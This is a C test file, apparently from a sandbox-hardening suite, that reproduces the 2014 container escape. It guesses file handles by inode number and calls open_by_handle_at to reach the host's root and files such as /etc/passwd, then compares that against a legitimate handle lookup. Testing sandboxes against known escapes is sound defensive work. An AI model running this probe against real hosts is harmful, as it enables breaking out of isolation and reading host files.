/*
 * Opens files by handle instead of by name, on any file system a descriptor leads to, as the container escape of 2014 did:
 * the handle of a file system's root is easily guessed.
 *
 * group: files
 * tries: open the root of the host's file systems by a guessed handle (open_by_handle_at) through every folder and file it can open
 * control: guest
 */
#include "attack.h"

struct handle {
	unsigned bytes;
	int type;
	uint32_t id[4];
};

/* A real handle of the place, with the root's inode number for its own. */
static long by_guess(const char *place, uint32_t inode)
{
	struct handle h = {.bytes = 8, .type = 1, .id = {inode, 0, 0, 0}};
	int at = open(place, O_RDONLY | O_CLOEXEC);
	long r = syscall(SYS_open_by_handle_at, at, &h, O_RDONLY);

	if (at >= 0)
		(void)close(at);
	return r;
}

/* The same object by its own handle: the right alone. */
static long by_own(const char *place)
{
	struct handle h = {.bytes = 16};
	int mount = 0, at = open(place, O_RDONLY | O_CLOEXEC);
	long r = syscall(SYS_name_to_handle_at, AT_FDCWD, place, &h, &mount, 0);

	if (r == 0)
		r = syscall(SYS_open_by_handle_at, at, &h, O_RDONLY);
	if (at >= 0)
		(void)close(at);
	return r;
}

int main(int argc, char **argv)
{
	static const char *const places[] = {"/", "/usr", "/usr/bin", "/etc/passwd", "/etc/hosts", "/tmp", "/workspace", "/.brig/init"};
	long guessed = -1, own = -1;
	int guess_err = 0, own_err = 0;

	(void)argc;
	(void)argv;
	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		for (uint32_t inode = 1; inode < 256 && guessed < 0; inode++) {
			guessed = by_guess(places[i], inode);
			guess_err = errno;
		}
		if (own < 0) {
			own = by_own(places[i]);
			own_err = errno;
		}
	}
	errno = guess_err;
	tried("guess", guessed);
	errno = own_err;
	tried("own", own);
	return ended();
}
